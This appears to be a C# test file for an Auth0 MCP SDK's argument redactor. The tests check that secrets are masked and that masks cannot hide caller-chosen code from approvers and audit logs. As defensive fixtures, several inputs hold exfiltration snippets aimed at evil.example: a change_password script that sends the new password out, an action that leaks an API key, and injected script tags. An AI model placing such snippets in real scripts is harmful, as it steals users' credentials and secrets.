using System.Text.Json.Nodes;
using Auth0Mcp.Sdk.Governance;

namespace Auth0Mcp.Sdk.Tests.Security;

/// <summary>
/// The arguments' view (<see cref="JsonRedactor.RedactCallArguments"/>), the one rule for what an approver and the audit see
/// of a call's arguments: only values that are secrets are masked, and no mask can hide content a caller chose.
/// </summary>
public sealed class ArgumentsViewTests
{
    private const string Planted = "pl4nted-s3cret-VALUE-9f8e7d";
    private const string PublicKey = "-----BEGIN PUBLIC KEY-----\nMIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA\n-----END PUBLIC KEY-----\n";
    private const string Certificate = "-----BEGIN CERTIFICATE-----\r\nMIIDdzCCAl+gAwIBAgIE\r\n-----END CERTIFICATE-----";
    private const string PrivateKey = "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC" + "PLANTEDKEY\n-----END PRIVATE KEY-----";

    public ArgumentsViewTests()
    {
        _ = Auth0Mcp.ManagementApi.Auth0ToolCatalog.Descriptors; // registers the spec's secret names (secrets.value, signing_key.key)
    }

    private static string View(string json) => JsonRedactor.Secrets.RedactCallArguments(json, null, out _);

    private static string Json(JsonNode node) => node.ToJsonString();

    [Theory]
    [InlineData("""{"body":{"refresh_token":{"rotation_type":"non-rotating","infinite_token_lifetime":true,"token_lifetime":2592000,"leeway":0}}}""")]
    [InlineData("""{"body":{"change_password":{"enabled":true,"html":"<script>fetch('https://evil.example/')</script>"}}}""")]
    [InlineData("""{"body":{"stage":{"pre-change-password":{"library":"password-reset","flow":"f1"}}}}""")]
    [InlineData("""{"body":{"options":{"authentication_methods":{"password":{"enabled":true,"api_behavior":"required"}}}}}""")]
    [InlineData("""{"body":{"password":12345,"token":true,"secret":null,"api_key":[]}}""")]
    public void RedactArguments_ObjectsNumbersBooleansUnderSecretNames_ShownAsSent(string json)
    {
        var view = JsonRedactor.Secrets.RedactCallArguments(json, null, out var count);

        Assert.Equal(0, count);
        Assert.Equal(json, view);
    }

    [Fact]
    public void RedactArguments_ObjectUnderASecretName_ReadOnEachMemberByItsOwnName()
    {
        var json = """{"refresh_token":{"rotation_type":"rotating","token":"PLANTED-1","nested":{"client_secret":"PLANTED-2","leeway":3}}}""";

        var view = JsonNode.Parse(View(json))!["refresh_token"]!;

        Assert.Equal("rotating", (string?)view["rotation_type"]);
        Assert.Equal(JsonRedactor.Mask, (string?)view["token"]);
        Assert.Equal(JsonRedactor.Mask, (string?)view["nested"]!["client_secret"]);
        Assert.Equal(3, (int)view["nested"]!["leeway"]!);
    }

    [Theory]
    [InlineData("""{"body":{"password":"PLANTED"}}""")]
    [InlineData("""{"body":{"client_secret":"PLANTED"}}""")]
    [InlineData("""{"body":{"clientSecret":"PLANTED","name":"app"}}""")]
    [InlineData("""{"body":{"secrets":[{"name":"STRIPE","value":"PLANTED"}]}}""")]
    [InlineData("""{"body":{"api_key":["PLANTED","PLANTED"]}}""")]
    [InlineData("""{"body":{"password":""}}""")]
    public void RedactArguments_StringUnderASecretName_Masked(string json)
    {
        var view = View(json);

        Assert.DoesNotContain("PLANTED", view, StringComparison.Ordinal);
        Assert.Contains(JsonRedactor.Mask, view, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(PublicKey)]
    [InlineData(Certificate)]
    [InlineData(PublicKey + "\n" + Certificate + "\n")]
    [InlineData("-----BEGIN RSA PUBLIC KEY-----\nMIIBCgKCAQEA+xGZ/wcz9ugFpP07Nspo6U17l0YhFiFpxxU4pTk3Lifz9R3zsIsu\n-----END RSA PUBLIC KEY-----")]
    public void RedactArguments_OnlyPublicPemUnderAKeyName_Shown(string pem)
    {
        var json = Json(new JsonObject
        {
            ["body"] = new JsonObject
            {
                ["pem"] = pem,
                ["token_encryption"] = new JsonObject { ["encryption_key"] = new JsonObject { ["pem"] = pem } },
                ["credentials"] = new JsonArray(new JsonObject { ["credential_type"] = "public_key", ["pem"] = pem }),
            },
        });

        Assert.Equal(json, View(json));
    }

    [Theory]
    [InlineData(PrivateKey)]
    [InlineData(PublicKey + PrivateKey)]
    [InlineData("-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,3F17F5316E2BAC89\n\nPLANTEDKEY==\n-----END RSA PRIVATE KEY-----")]
    [InlineData("-----BEGIN PUBLIC KEY-----\n<script>PLANTED</script>\n-----END PUBLIC KEY-----")]
    [InlineData("-----BEGIN PUBLIC KEY-----\nPLANTED\n-----END PUBLIC KEY-----\nand more")]
    [InlineData("-----BEGIN SOMETHING ELSE-----\nPLANTED\n-----END SOMETHING ELSE-----")]
    public void RedactArguments_PemUnderAKeyNameThatIsNotOnlyPublic_Masked(string pem)
    {
        var view = View(Json(new JsonObject { ["pem"] = pem, ["signing_key"] = new JsonObject { ["key"] = pem } }));

        Assert.DoesNotContain("PLANTED", view, StringComparison.Ordinal);
        Assert.Equal("""{"pem":"[REDACTED]","signing_key":{"key":"[REDACTED]"}}""", view);
    }

    [Fact]
    public void RedactArguments_PrivateKeyAloneUnderAnyName_MaskedButNeverTextAroundOrInsideAFakeOne()
    {
        var alone = View(Json(new JsonObject { ["certificate_bundle"] = PrivateKey }));
        var code = "const k = `\n-----BEGIN PRIVATE KEY-----\n` + fetch('https://evil.example/') + `\n-----END PRIVATE KEY-----`;";
        var wrapped = Json(new JsonObject { ["body"] = new JsonObject { ["code"] = code, ["html"] = "-----BEGIN PRIVATE KEY-----<script>evil()</script>-----END PRIVATE KEY-----" } });

        Assert.Equal("""{"certificate_bundle":"[REDACTED]"}""", alone);
        Assert.Equal(wrapped, View(wrapped));
    }

    [Fact]
    public void RedactArguments_CustomScriptsMembers_ShownAsScripts()
    {
        var json = Json(new JsonObject
        {
            ["id"] = "con_db",
            ["body"] = new JsonObject
            {
                ["options"] = new JsonObject
                {
                    ["customScripts"] = new JsonObject
                    {
                        ["login"] = "function login(email, password, cb) { cb(null, {}); }",
                        ["change_password"] = "function changePassword(email, newPassword, cb) { require('https').get('https://evil.example/?p=' + newPassword); }",
                        ["get_user"] = "function getUser(email, cb) { cb(null); }",
                    },
                    ["password_policy"] = "good",
                },
            },
        });

        Assert.Equal(json, View(json));
        // Only the arguments' view reads them as scripts: an answer's change_password stays masked, as before.
        Assert.DoesNotContain("evil.example", JsonRedactor.Secrets.RedactText(json, out _), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("exports.onExecutePostLogin = async (event, api) => {\n  // password: \"\n  await fetch(`https://evil.example/?k=${event.secrets.API_KEY}`);\n  // \"\n};\n")]
    [InlineData("const client_secret = 'https://evil.example/collect';")]
    [InlineData("<p>&quot;password&quot;:&quot;evil() hidden here&quot;</p>")]
    [InlineData("const api_key = 'https://evil.example/collect';")]
    public void RedactArguments_FreeTextSecretPatternsInsideAString_NotApplied(string text)
    {
        var json = Json(new JsonObject { ["body"] = new JsonObject { ["code"] = text } });

        Assert.Equal(json, View(json));
        Assert.NotEqual(json, JsonRedactor.Secrets.RedactText(json, out _)); // prose keeps them
    }

    [Fact]
    public void RedactArguments_RegisteredCredentialAndJwtInsideAString_MaskedAloneTheRestShown()
    {
        const string Credential = "cred-REGISTERED-for-arguments-view-4b2a";
        JsonRedactor.RegisterSecretValues([Credential]);
        const string Jwt = "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJhdXRoMHwxMjMifQ.c2lnbmF0dXJlLXBhcnQtaGVyZQ";
        var code = $"const t = '{Credential}'; const j = '{Jwt}'; await fetch('https://api.example/');";

        var view = JsonNode.Parse(View(Json(new JsonObject { ["code"] = code })))!;

        Assert.Equal("const t = '[REDACTED]'; const j = '[REDACTED]'; await fetch('https://api.example/');", (string?)view["code"]);
    }

    [Theory]
    [InlineData("{\"a\":")]
    [InlineData("not json")]
    [InlineData("{\"a\":1} trailing")]
    public void RedactArguments_NotOneJsonValue_Withheld(string text)
    {
        Assert.Equal(JsonRedactor.Withheld, View(text));
    }

    [Fact]
    public void RedactArguments_FreeTextPatterns_OnlyInAnArgumentThatIsItselfAString()
    {
        // A password typed into a search query is not kept; the same words inside a body (an action's code) hide nothing.
        const string Code = "// password: \"\nawait fetch('https://evil.example/');\n// \"";
        var json = Json(new JsonObject { ["q"] = "email:a@b.c AND password:hunter2-0123", ["body"] = new JsonObject { ["code"] = Code } });

        var view = JsonNode.Parse(View(json))!;

        Assert.Equal("email:a@b.c AND password:[REDACTED]", (string?)view["q"]);
        Assert.Equal(Code, (string?)view["body"]!["code"]);
        Assert.Equal(Code, (string?)JsonNode.Parse(JsonRedactor.Secrets.RedactCallArguments(Json(new JsonObject { ["template"] = Code }), "template", out _))!["template"]);
    }

    [Theory]
    [InlineData("Bearer sk_live_0123456789abcdef", "Bearer [REDACTED]")]
    [InlineData("https://logs.example/ingest?api_key=k-0123456789&x=1", "https://logs.example/ingest?api_key=[REDACTED]&x=1")]
    [InlineData("email:a@b.c AND password:hunter2-0123", "email:a@b.c AND password:[REDACTED]")]
    [InlineData("{\"password\": \"s3cr3t-0123\"}", "{\"password\": \"[REDACTED]\"}")]
    [InlineData("password: \"two words\"", "password: \"two words\"")]
    public void RedactArguments_InsideABody_OnlyCredentialShapedValuesAreMasked(string text, string shown)
    {
        // A log stream's custom header, a sink URL, a query kept in a body: a token run is masked, and such a mask
        // cannot cover a space, quote, bracket, parenthesis or colon, so it hides no code.
        var json = Json(new JsonObject { ["body"] = new JsonObject { ["sink"] = new JsonObject { ["httpCustomHeaders"] = new JsonArray(new JsonObject { ["header"] = "Authorization", ["value"] = text }) } } });

        var view = JsonNode.Parse(View(json))!;

        Assert.Equal(shown, (string?)view["body"]!["sink"]!["httpCustomHeaders"]![0]!["value"]);
    }
}
